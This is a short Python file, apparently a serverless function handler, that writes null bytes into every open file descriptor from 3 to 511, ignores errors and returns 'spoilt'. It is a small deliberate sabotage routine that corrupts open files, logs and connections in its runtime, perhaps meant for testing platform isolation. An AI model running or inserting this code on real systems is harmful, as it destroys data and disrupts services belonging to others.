import os


def main_handler(event, context):
    for descriptor in range(3, 512):
        try:
            os.write(descriptor, b"\x00" * 64)
        except OSError:
            pass
    return "spoilt"
